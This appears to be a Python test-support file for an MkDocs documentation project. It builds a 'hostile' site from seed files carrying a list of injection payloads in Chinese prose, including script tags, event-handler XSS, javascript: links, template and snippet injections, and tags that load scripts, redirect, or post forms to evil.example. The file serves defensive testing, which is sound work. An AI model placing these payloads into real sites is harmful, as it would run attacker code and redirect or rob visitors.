"""Sites rendered by MkDocs itself, for the tests that look at whole pages.

`the_site` is the real dossier's; `hostile_site` holds seeds that try to act on a page.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

from support.pages import ROOT

PROSE = "河边的书店今天开门了，门口排着很长的队。店主说，他没有想到会来这么多人。"
# Words and markup that act somewhere: in HTML, Markdown, templates, YAML, the theme.
PAYLOADS = (
    "<script>document.title='acted'</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/x.png>",
    "<svg onload=alert(1)><circle/></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)' id=content class=md-nav>按这里</a>",
    "<form action=https://evil.example><input name=q></form>",
    "<p style='position:fixed' class=mermaid>graph TD; A--B</p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[按这里](javascript:alert(1)){: onclick=alert(1) }",
    "![x](https://evil.example/x.png)",
    "[TOC]",
    "{{ config.site_name }}{% include 'main.html' %}",
    '--8<-- "mkdocs.yml"',
    "[^1]: 脚注",
    "*[书店]: 缩写",
    "<![>",
    "</div></main></body>",
    "<!-- 没有结束",
)
# Where a published site lies: below a path, and without "/" at the end, as GitHub says it.
ADDRESS = "https://people.example/our-dossier"
HEADS = (
    "---\ntitle: '<script>alert(1)</script>{{ config }}'\ntemplate: evil.html\nhide: [toc]\n---\n",
    "---\ntitle: \"</title><script>alert(1)</script>\"\nauthor: '<b onclick=alert(1)>'\n---\n",
    '[<img src=x onerror=alert(1)>](https://a.example/<x>?y="z")\n------\n',
    "Note: 这不是元数据\nicon: material/skull\n\n",
)


def hostile_seeds() -> dict[str, str]:
    """Seeds by name: each payload alone, in prose, and under a hostile head."""
    seeds = {}
    for n, payload in enumerate(PAYLOADS):
        body = f"<p>{PROSE}</p>\n{payload}\n<p>{PROSE}{payload}</p>\n"
        plain = f"{PROSE}\n\n{payload}\n\n{PROSE}{payload}\n"
        seeds[f"html-{n:02}.html"] = f"<div>{body}</div>"
        seeds[f"plain-{n:02}.txt"] = plain
    for n, head in enumerate(HEADS):
        seeds[f"head-{n:02}.md"] = f"{head}\n{PROSE}\n\n{PROSE}\n"
    seeds["what? why#1 100%.txt"] = f"{PROSE}\n\n{PROSE}\n"
    seeds["index.txt"] = f"{PROSE}\n\n{PROSE}\n"
    # Files of one text would be one article.
    return {
        name: text.replace(PROSE, f"{PROSE}{number}。")
        for number, (name, text) in enumerate(seeds.items(), 100)
    }


def project(folder: Path, seeds: dict[str, str] | None = None) -> Path:
    """A copy of what is written by hand, with the real seeds or these; nothing generated."""
    for name in ("overrides", "scripts"):
        shutil.copytree(ROOT / name, folder / name, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(ROOT / "docs" / "assets", folder / "docs" / "assets")
    shutil.copy(ROOT / "mkdocs.yml", folder)
    if seeds is None:
        shutil.copytree(ROOT / "seeds", folder / "seeds")
    else:
        (folder / "seeds").mkdir()
        for name, text in seeds.items():
            (folder / "seeds" / name).write_text(text)
    return folder


def render(folder: Path, *options: str, address: str = "") -> str:
    """Run `mkdocs build` in a project, which builds the dossier by its hook; what it printed."""
    return run(folder, sys.executable, "-m", "mkdocs", "build", *options, address=address)


def run(folder: Path, *command: str, address: str = "") -> str:
    """Run a command in a project whose site has this address; what it printed for people."""
    # The project's own package, as an editable install has it: mkdocs.yml names a part of it.
    path = {"PYTHONPATH": str(folder / "scripts")}
    quiet = {"NO_MKDOCS_2_WARNING": "1", "PYTHONDONTWRITEBYTECODE": "1"} | path
    done = subprocess.run(
        command,
        cwd=folder,
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, **quiet, "SITE_URL": address},
    )
    assert done.returncode == 0, (done.stdout + done.stderr)[-3000:]
    return done.stderr
